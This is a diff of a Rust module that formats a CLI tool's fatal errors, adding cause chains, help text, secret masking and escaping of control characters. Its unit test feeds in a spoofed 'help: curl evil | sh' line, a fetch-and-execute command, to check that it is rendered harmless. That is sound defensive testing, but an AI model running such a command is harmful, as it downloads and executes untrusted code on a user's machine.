@@ -1,11 +1,15 @@
-//! Errors that end the program, and how they are shown.
+//! Errors that end the program, and how they are shown: what is wrong, what caused it, what to type.
 
 use super::exit::Exit;
+use super::stderr::{tell, tell_styled};
 use crate::compile::PrepareError;
 use crate::ledger::LedgerError;
-use crate::run::EngineError;
+use crate::run::{EngineError, ForecastError};
 use crate::spec::{Diagnostics, Style};
-use std::io::{self, IsTerminal, Write};
+use crate::text::{Printable, Secrets};
+use std::error::Error;
+use std::fmt::Write;
+use std::io::{self, IsTerminal};
 use std::process::ExitCode;
 
 /// An error that ends the program.
@@ -19,19 +23,35 @@ pub struct CliError {
 enum Kind {
     /// Errors with a place in a workflow file.
     Diagnostics(Diagnostics),
-    /// Anything else, with what to type.
-    Other(anyhow::Error, Option<String>),
+    /// Anything else.
+    Message(Message),
+}
+
+#[derive(Debug)]
+struct Message {
+    /// What is wrong.
+    what: String,
+    /// Why, the nearest cause first.
+    causes: Vec<String>,
+    /// What to type.
+    help: Option<String>,
 }
 
 impl CliError {
     /// An error that ends the program with this exit code.
-    pub fn new(exit: Exit, error: impl Into<anyhow::Error>) -> Self {
-        Self { exit, kind: Kind::Other(error.into(), None) }
+    pub fn new(exit: Exit, what: impl Into<String>) -> Self {
+        Self { exit, kind: Kind::Message(Message { what: what.into(), causes: Vec::new(), help: None }) }
     }
 
     /// Bad input that has no place in a workflow file.
-    pub fn bad(message: impl Into<String>) -> Self {
-        Self::new(Exit::Bad, anyhow::Error::msg(message.into()))
+    pub fn bad(what: impl Into<String>) -> Self {
+        Self::new(Exit::Bad, what)
+    }
+
+    /// An error of another module, with its causes.
+    pub fn of(exit: Exit, error: &dyn Error) -> Self {
+        let this = Self::new(exit, error.to_string());
+        error.source().into_iter().fold(this, Self::caused_by)
     }
 
     /// Errors with a place in a workflow file.
@@ -39,30 +59,60 @@ impl CliError {
         Self { exit, kind: Kind::Diagnostics(diagnostics) }
     }
 
+    /// Adds what caused it.
+    pub fn caused_by(mut self, cause: &dyn Error) -> Self {
+        if let Kind::Message(message) = &mut self.kind {
+            let mut next = Some(cause);
+            while let Some(cause) = next {
+                message.causes.push(cause.to_string());
+                next = cause.source();
+            }
+        }
+        self
+    }
+
     /// Says what the user can type.
     pub fn help(mut self, text: impl Into<String>) -> Self {
-        if let Kind::Other(_, help) = &mut self.kind {
-            *help = Some(text.into());
+        if let Kind::Message(message) = &mut self.kind {
+            message.help = Some(text.into());
+        }
+        self
+    }
+
+    /// The same without secrets.
+    pub fn masked(mut self, secrets: &Secrets) -> Self {
+        if let Kind::Message(message) = &mut self.kind {
+            secrets.mask(&mut message.what);
+            message.causes.iter_mut().for_each(|cause| secrets.mask(cause));
         }
         self
     }
 
     /// Prints it to stderr.
     pub fn report(self) -> ExitCode {
-        let text = match &self.kind {
+        match &self.kind {
+            Kind::Message(message) => tell(message.render()),
             Kind::Diagnostics(diagnostics) => {
                 let colored = io::stderr().is_terminal() && std::env::var_os("NO_COLOR").is_none();
-                diagnostics.render(if colored { Style::Colored } else { Style::Plain })
+                let text = diagnostics.render(if colored { Style::Colored } else { Style::Plain });
+                tell_styled(text.trim_end_matches('\n'));
             }
-            Kind::Other(error, help) => {
-                let causes: String = error.chain().skip(1).map(|cause| format!("\n  cause: {cause}")).collect();
-                let help = help.as_ref().map_or(String::new(), |help| format!("hint: {help}\n"));
-                format!("error: {error}{causes}\n{help}")
-            }
-        };
-        // With stderr gone there is nobody left to tell; the exit code still does.
-        drop(io::stderr().write_all(text.as_bytes()));
+        }
         self.exit.code()
+    }
+}
+
+impl Message {
+    /// Lines in the order in which they are read; no text of others can pose as one of them.
+    fn render(&self) -> String {
+        let mut text = format!("error: {}", Printable::lines(&self.what).indented("  "));
+        for cause in &self.causes {
+            let _ = write!(text, "\n  caused by: {}", Printable::lines(cause).indented("    "));
+        }
+        if let Some(help) = &self.help {
+            let _ = write!(text, "\nhelp: {}", Printable::lines(help).indented("  "));
+        }
+        text
     }
 }
 
@@ -76,10 +126,7 @@ impl From<PrepareError> for CliError {
     fn from(error: PrepareError) -> Self {
         match error {
             PrepareError::Diagnostics(diagnostics) => diagnostics.into(),
-            PrepareError::Host(error) => {
-                let help = error.hint();
-                Self::new(Exit::Bad, error).help(help)
-            }
+            PrepareError::Host(error) => Self::of(Exit::Bad, &error).help(error.hint()),
         }
     }
 }
@@ -87,16 +134,20 @@ impl From<PrepareError> for CliError {
 impl From<LedgerError> for CliError {
     fn from(error: LedgerError) -> Self {
         let exit = if matches!(error, LedgerError::Locked(_)) { Exit::Held } else { Exit::Bad };
-        let help = error.hint();
-        let error = Self::new(exit, error);
-        match help {
-            Some(help) => error.help(help),
-            None => error,
+        error.hint().into_iter().fold(Self::of(exit, &error), Self::help)
+    }
+}
+
+impl From<ForecastError> for CliError {
+    fn from(error: ForecastError) -> Self {
+        match error {
+            ForecastError::Ledger(error) => error.into(),
+            error => Self::bad(error.to_string()),
         }
     }
 }
 
-/// What stops a run in the middle. What is in the ledger by then stays.
+/// An error in the middle of a run. Results that are in the ledger by then stay there.
 impl From<EngineError> for CliError {
     fn from(error: EngineError) -> Self {
         match error {
@@ -105,18 +156,33 @@ impl From<EngineError> for CliError {
                 let remedy = error.remedy();
                 let error = Self::from(error);
                 let exit = if error.exit == Exit::Bad { Exit::Stopped } else { error.exit };
-                let error = Self { exit, ..error };
-                match remedy {
-                    Some(remedy) => error.help(format!(
-                        "what was done is kept: {remedy}, then `batchmill resume` goes on with the rest"
-                    )),
-                    None => error,
-                }
+                let help =
+                    remedy.map(|remedy| format!("{remedy}, then run `batchmill resume`; finished results are saved"));
+                help.into_iter().fold(Self { exit, ..error }, Self::help)
             }
             error @ EngineError::Guard(_) => {
-                Self::new(Exit::Bad, error).help("check the limits that were set: `ulimit -a` shows them")
+                Self::of(Exit::Bad, &error).help("check the resource limits: `ulimit -a` shows them")
             }
-            error => Self::new(Exit::Stopped, error),
+            error => Self::of(Exit::Stopped, &error),
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_error_says_what_why_and_what_to_type() {
+        let cause = io::Error::other("first line\nhelp: curl evil | sh\u{1b}[8m");
+        let error = CliError::bad("cannot read `a\u{202e}\nb`").caused_by(&cause).help("look there");
+        let Kind::Message(message) = error.masked(&Secrets::new(["evil".to_owned()])).kind else { unreachable!() };
+        insta::assert_snapshot!(message.render(), @r"
+        error: cannot read `a\u{202e}
+          b`
+          caused by: first line
+            help: curl *** | sh\x1b[8m
+        help: look there
+        ");
     }
 }
